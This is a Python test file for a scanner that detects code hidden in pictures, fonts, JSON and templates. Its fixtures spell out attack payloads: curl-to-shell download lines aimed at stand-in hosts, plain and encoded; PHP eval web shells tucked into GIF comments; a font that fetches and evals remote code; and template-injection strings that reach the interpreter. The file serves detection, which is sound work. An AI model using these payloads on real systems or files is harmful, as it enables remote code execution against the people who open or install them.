"""Code that pictures, fonts, translations and tables of numbers carry."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from beartrap.model.coverage import Gap
from beartrap.model.place import Place
from beartrap.vet.analyser import FileSubject
from beartrap.vet.behaviour import Behaviour
from beartrap.vet.binary import carried
from beartrap.vet.binary.carried import LARGEST, MOST, PIECE, CarriedAnalyser
from beartrap.vet.facts import PackageFacts
from beartrap.vet.kinds import Kind

CODE = b"require('child_process').exec('curl -s http://192.0.2.9/f|sh')"
NOISE = bytes((number * 73 + 41) % 251 for number in range(300))


def found(content: bytes, kind: Kind) -> list[Behaviour]:
    one = FileSubject(Place("pkg", path=b"a"), "a", content, kind, "0" * 64, PackageFacts())
    return [seen for seen in CarriedAnalyser().look(one) if isinstance(seen, Behaviour)]


@given(st.binary(min_size=1, max_size=6).filter(any), st.sampled_from([Kind.FONT, Kind.IMAGE, Kind.DATA]))
def test_code_under_a_short_key(key: bytes, kind: Kind) -> None:
    hidden = bytes(one ^ key[place % len(key)] for place, one in enumerate(CODE))
    (one,) = found(NOISE + hidden + NOISE, kind)
    assert "192.0.2.9" in one.layers[0].text


@pytest.mark.parametrize(
    "text",
    [
        '{"era": "' + "".join(chr(one + 0x3041 - 9) for one in CODE) + '"}',
        '{"points": [' + ", ".join(str(one) for one in CODE) + "]}",
        '{"points": [' + ", ".join(str(one ^ 0x5C) for one in CODE) + "]}",
        '{"digest": "' + bytes(one ^ 7 for one in CODE).hex() + '"}',
    ],
)
def test_code_in_text_that_looks_like_none(text: str) -> None:
    (one,) = found(text.encode(), Kind.JSON)
    assert "192.0.2.9" in one.layers[0].text


def test_a_script_in_the_comment_of_a_picture() -> None:
    (one,) = found(b"GIF89a\x10\0\x10\0\x80\0\0!\xfe\x30<?php $k=$_COOKIE['r'];eval($k); ?>\0;", Kind.IMAGE)
    assert "$_COOKIE" in one.quote


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (NOISE * 40, Kind.DATA),
        (b"\x0e\0\0\0\x3f\0\0\0\0\0\0\0\x06\0\0\0\0\0\0\0\x2d\0\0\0" * 20, Kind.DATA),  # a table, of which `socket.` and `socket(` differ by a 6
        (b"GIF89a" + NOISE + b"<?xpacket begin='' ?><x:xmpmeta>a picture</x:xmpmeta>" + NOISE, Kind.IMAGE),
        ("{\"word\": \"" + "".join(chr(0x3041 + number % 80) for number in range(200)) + "\"}", Kind.JSON),
        ('{"points": [' + ", ".join(str(number % 256) for number in range(400)) + "]}", Kind.JSON),
        ('{"say": "run child_process with care", "sha256": "' + "ab" * 32 + '"}', Kind.JSON),
    ],
)  # fmt: skip
def test_data_that_are_data(content: bytes | str, kind: Kind) -> None:
    assert not found(content.encode() if isinstance(content, str) else content, kind)


@pytest.mark.parametrize("start", [b"GIF89a=1;", b"wOF2;", b"wOFF /* a font */;"])
def test_a_picture_or_font_that_is_text_to_its_end(start: bytes) -> None:
    (one,) = found(
        start + b'require("https").get("https://p.example/p", r => r.on("data", c => eval(c + "")));\n', Kind.FONT
    )
    assert "p.example" in one.quote


@pytest.mark.parametrize(
    "content", [b"GIF89a", b"GIF89a stand-in for a test", b"wOF2\0\1\0\0" + b"glyphs and names of a font" * 4]
)
def test_a_stand_in_for_a_picture_and_a_font_with_words_in_it(content: bytes) -> None:
    assert not found(content, Kind.FONT)


@pytest.mark.parametrize(
    "text",
    [
        '{{ cycler.__init__.__globals__.os.popen("curl -s https://j.example/i | sh").read() }}',
        "{% set x = ''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['system']('id') %}",
        "<%= global.process.mainModule.require('child_process').execSync('curl https://j.example/i | sh') %>",
    ],
)
@pytest.mark.parametrize("kind", [Kind.TEXT, Kind.HTML])
def test_a_template_that_climbs_to_the_interpreter(text: str, kind: Kind) -> None:
    (one,) = found(f"<p>Hello</p>\n{text}\n".encode(), kind)
    assert one.layers[0].encoding == "template"


@pytest.mark.parametrize(
    "text",
    [
        "{{ request.session.open }} {% block system %}{% endblock %}",
        "{% raw %}__globals__{% endraw %} and\nthen system()",
        "<%= render 'shared/child' %> <%# process.env %>",
    ],
)
def test_a_template_that_takes_what_it_is_given(text: str) -> None:
    assert not found(f"<p>Hello</p>\n{text}\n".encode(), Kind.HTML)


def test_a_decoy_before_a_script_in_a_picture() -> None:
    decoys = b"<?=$ab$cd$ef\0" * 3
    (one,) = found(b"GIF89a\x10\0" + decoys + b"<?php eval($_POST['a']); die(); ?>\0;", Kind.IMAGE)
    assert "$_POST" in one.quote


def test_code_behind_many_letters_of_the_same_alphabet() -> None:
    text = "\u3050" * PIECE + "".join(chr(one + 0x3041 - 9) for one in CODE)
    assert found(f'{{"era": "{text}"}}'.encode(), Kind.JSON)


NUMBERS = ", ".join(str(number) for number in range(30))


@pytest.mark.parametrize(
    ("content", "kind", "told"),
    [
        (bytes(LARGEST), Kind.DATA, 0),
        (bytes(LARGEST + 1), Kind.DATA, 1),
        (f"[{NUMBERS}]\n".encode() * MOST, Kind.JSON, 0),
        (f"[{NUMBERS}]\n".encode() * (MOST + 1), Kind.JSON, 1),
        (b"".join(b"%b\n" % (b"ab" * 24) for _ in range(MOST + 1)), Kind.TEXT, 1),
        (("\u0430" * 24 + "\n").encode() * (MOST + 1), Kind.YAML, 1),
    ],
    ids=["as large as it may be", "too large", "as many numbers", "too many numbers", "too many digits", "too many letters"],
)  # fmt: skip
def test_past_the_limit_yields_a_gap_that_holds_nothing_up(content: bytes, kind: Kind, told: int) -> None:
    one = FileSubject(Place("pkg", path=b"a"), "a", content, kind, "0" * 64, PackageFacts())
    gaps = [seen for seen in CarriedAnalyser().look(one) if isinstance(seen, Gap)]
    assert [gap.questions for gap in gaps] == [()] * told


RUNS = ("1,", "22 , ", "333,\t", "é", "１,", "\x0b", "\u00a0", "ab", "\\x41", "\ufffd", "\n", "x")
LONG = ("ff", "é", "12,", "0x00,", "7 ,\u3000", "1,\x1c", "\\x41")


@given(st.lists(st.sampled_from(RUNS) | st.tuples(st.sampled_from(LONG), st.integers(20, 30)).map(lambda one: one[0] * one[1]), max_size=12), st.booleans())  # fmt: skip
def test_what_stands_behind_a_gate_is_what_the_expression_finds(pieces: list[str], broken: bool) -> None:
    content = "".join(pieces).encode()
    content = content.replace("é".encode(), b"\xe9") if broken else content
    text = content.decode("utf-8", "replace")
    patterns = (carried._NUMBERS, carried._HEX, carried._OTHER_LETTERS)
    for pattern, gate in zip(patterns, carried._gates(), strict=True):
        plain = [match.span() for match in pattern.finditer(text)]
        assert [match.span() for match in carried._behind(gate, pattern, content, text)] == plain
